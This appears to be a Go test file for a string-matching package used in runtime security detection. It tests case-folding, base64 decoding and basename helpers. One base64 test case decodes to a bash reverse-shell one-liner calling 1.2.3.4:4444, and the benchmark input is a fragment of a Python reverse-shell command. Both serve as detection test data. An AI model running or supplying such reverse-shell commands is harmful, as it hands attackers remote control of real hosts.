package match

import (
	"math/rand/v2"
	"strings"
	"testing"
)

func TestContainsFold(t *testing.T) {
	tests := []struct {
		s, sub string
		want   bool
	}{
		{"Hello World", "WORLD", true},
		{"Hello World", "lo w", true},
		{"Hello World", "worlds", false},
		{"/usr/BIN/Bash", "bin/bash", true},
		{"abc", "", true},
		{"", "", true},
		{"", "a", false},
		{"ab", "abc", false},
		{"xxAbAbAc", "abac", true},
		{"aaaaaaaaab", "AAB", true},
		{"aaaaaaaaaa", "AAB", false},
		{"a\x00B", "A\x00b", true},
		{"[", "{", false}, // '[' and '{' differ by the case bit but are not letters
		{"@", "`", false},
		{"\xc3\xa9", "\xc3\x89", false}, // é and É: only ASCII folds
		{"caf\xc3\xa9", "CAF\xc3\xa9", true},
	}
	for _, tt := range tests {
		if got := ContainsFold(tt.s, tt.sub); got != tt.want {
			t.Errorf("ContainsFold(%q, %q) = %v, want %v", tt.s, tt.sub, got, tt.want)
		}
	}
}

// For ASCII input ContainsFold is strings.Contains of the lower-cased pair.
func TestContainsFoldRandom(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	const alphabet = "aAbB[{@`zZ"
	gen := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		return string(b)
	}
	for range 20000 {
		s, sub := gen(r.IntN(12)), gen(r.IntN(4))
		want := strings.Contains(strings.ToLower(s), strings.ToLower(sub))
		if got := ContainsFold(s, sub); got != want {
			t.Fatalf("ContainsFold(%q, %q) = %v, want %v", s, sub, got, want)
		}
	}
}

func TestToLowerToUpper(t *testing.T) {
	tests := []struct{ in, lower, upper string }{
		{"", "", ""},
		{"abc", "abc", "ABC"},
		{"/USR/Bin/Bash", "/usr/bin/bash", "/USR/BIN/BASH"},
		{"[@`{]", "[@`{]", "[@`{]"},
		{"caf\xc3\xa9 CAF\xc3\x89", "caf\xc3\xa9 caf\xc3\x89", "CAF\xc3\xa9 CAF\xc3\x89"},
	}
	for _, tt := range tests {
		if got := ToLower(tt.in); got != tt.lower {
			t.Errorf("ToLower(%q) = %q, want %q", tt.in, got, tt.lower)
		}
		if got := ToUpper(tt.in); got != tt.upper {
			t.Errorf("ToUpper(%q) = %q, want %q", tt.in, got, tt.upper)
		}
	}
	s := "already/lower"
	if n := testing.AllocsPerRun(100, func() { ToLower(s) }); n != 0 {
		t.Errorf("ToLower of a lower-case string allocates %v times", n)
	}
}

func TestB64(t *testing.T) {
	tests := []struct {
		in   string
		want string
		ok   bool
	}{
		{"", "", true},
		{"aGVsbG8=", "hello", true},
		{"aGVsbG8", "hello", true},
		{"aGVsbG8==", "hello", true}, // extra padding is dropped, as in libsinsp
		{"aGVsbG8h", "hello!", true},
		{"YQ==", "a", true},
		{"YQ=", "a", true},
		{"YQ", "a", true},
		{"YWI=", "ab", true},
		{"L2Jpbi9zaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ==", "/bin/sh -i >& /dev/tcp/1.2.3.4/4444 0>&1", true},
		{"+/+/", "\xfb\xff\xbf", true},
		{"-_-_", "", false}, // URL alphabet
		{"YR==", "", false}, // non-zero trailing bits
		{"Y", "", false},
		{"YWJjZ", "", false},
		{"=", "", false},
		{"==", "", false},
		{"aGVsbG8===", "", false},
		{"aGV=sbG8", "", false},
		{"aGVs\nbG8=", "", false},
		{"aGVs bG8=", "", false},
		{"!!!!", "", false},
	}
	for _, tt := range tests {
		got, ok := B64(tt.in)
		if ok != tt.ok || got != tt.want {
			t.Errorf("B64(%q) = %q, %v, want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func TestBasename(t *testing.T) {
	tests := map[string]string{
		"":              "",
		"/":             "",
		"//":            "",
		"a":             "a",
		"/usr/bin/bash": "bash",
		"usr/bin/bash":  "bash",
		"a/b/":          "",
		"/a/b/.":        ".",
		"/a/b/..":       "..",
		"no-slash.txt":  "no-slash.txt",
		`C:\x\y`:        `C:\x\y`,
	}
	for in, want := range tests {
		if got := Basename(in); got != want {
			t.Errorf("Basename(%q) = %q, want %q", in, got, want)
		}
	}
}

func BenchmarkContainsFold(b *testing.B) {
	s := "/usr/bin/python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)"
	b.ReportAllocs()
	for b.Loop() {
		ContainsFold(s, "SOCK_STREAM")
	}
}
